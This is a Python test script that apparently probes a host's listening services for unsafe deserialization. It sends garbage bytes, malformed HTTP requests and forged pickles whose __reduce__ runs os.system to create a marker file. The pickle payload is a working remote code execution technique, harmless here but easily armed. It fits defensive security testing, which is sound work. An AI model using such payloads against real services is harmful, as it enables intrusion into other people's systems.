"""python attacker.py MARKER SECONDS [ADDRESS:PORT ...]: sends garbage and pickles that would make MARKER to each of
the ports, or, without any, again and again to each port that this host comes to listen on, until the file MARKER.end is
there or the seconds are over. Prints which ports they were."""

import base64
import os
import pickle
import socket
import struct
import sys
import time
from contextlib import suppress
from pathlib import Path

marker, seconds, *addresses = sys.argv[1:]


class Forged:
    def __reduce__(self):
        return (os.system, (f"touch {marker}",))


forged = pickle.dumps(Forged())
encoded = base64.b64encode(forged)


def put(path):
    return b"PUT %s HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (
        path,
        len(encoded),
        encoded,
    )


PAYLOADS = [
    os.urandom(1 << 16),
    bytes(4096),
    b"\xff" * 4096,
    forged,
    struct.pack("<Q", 8) + forged,
    bytes(32) + struct.pack("i", len(forged)) + forged,
    struct.pack("i", 1 << 30),
    b"GET / HTTP/1.0\r\n\r\n",
    put(b"/worker_addresses/localhost:0"),
    put(b"/runfunc/func"),
    put(b"/global/0"),
    put(b"/"),
    b"PUT /a/b HTTP/1.1\r\nContent-Length: many\r\n\r\n",
    b"",
]


def listening():
    """The addresses and ports that this host listens on, sshd's and loopback's left out."""
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        address, port = line.split()[1].split(":")
        if line.split()[3] == "0A" and int(port, 16) != 22 and not address.endswith("7F"):
            name = socket.inet_ntoa(bytes.fromhex(address)[::-1])
            yield f"{'127.0.0.1' if name == '0.0.0.0' else name}:{int(port, 16)}"


def attack(target):
    address, port = target.split(":")
    for payload in PAYLOADS:
        with (
            suppress(OSError),
            socket.create_connection((address, int(port)), timeout=1) as connection,
        ):
            connection.settimeout(0.1)
            connection.sendall(payload)
            connection.recv(1000)


deadline = time.monotonic() + float(seconds)
seen = {}
while True:
    for target in addresses or sorted(set(listening())):
        seen[target] = seen.get(target, 0) + 1
        if seen[target] <= 3:
            attack(target)
    if addresses or time.monotonic() > deadline or Path(f"{marker}.end").exists():
        break
    time.sleep(0.02)
print("attacked", " ".join(seen))
